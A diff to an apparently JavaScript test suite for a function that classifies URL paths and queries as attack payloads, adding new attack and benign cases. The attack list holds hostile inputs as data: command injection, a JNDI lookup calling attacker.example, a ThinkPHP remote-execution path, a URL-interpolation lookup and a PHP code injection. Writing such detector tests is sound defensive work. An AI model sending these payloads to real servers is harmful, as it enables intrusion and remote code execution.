@@ -17,6 +17,9 @@ test('attack payloads are recognised in paths and queries, encoded once or twice
     ['?date=5%7Cid', 'command injection'],
     ['?x=$%7Bjndi:ldap://attacker.example/a%7D', 'command injection'],
     ['/index.php?s=/index/think/app/invokefunction&function=call_user_func_array', 'exploit'],
+    ['?search=%24%7Burl%3AUTF-8%3Ahttps%3A%2F%2Fexample.com%2F%7D', 'command injection'],
+    ['?content=%3C?php%20phpinfo();?%3E', 'exploit'],
+    ['http://proxy-check.example:80/ip4.php', 'exploit'],
   ];
   for (const [text, kind] of attacks) assert.is(payloadKind(text), kind, text);
   const benign = [
@@ -29,6 +32,9 @@ test('attack payloads are recognised in paths and queries, encoded once or twice
     '?q=it%27s%20(great)',
     '/blog/2019/10/the-best-of-summer',
     '/images/logo.png',
+    '?price=$12',
+    '?filter={size:large}',
+    '?next=http://www.example.org/',
   ];
   for (const text of benign) assert.is(payloadKind(text), null, text);
 });
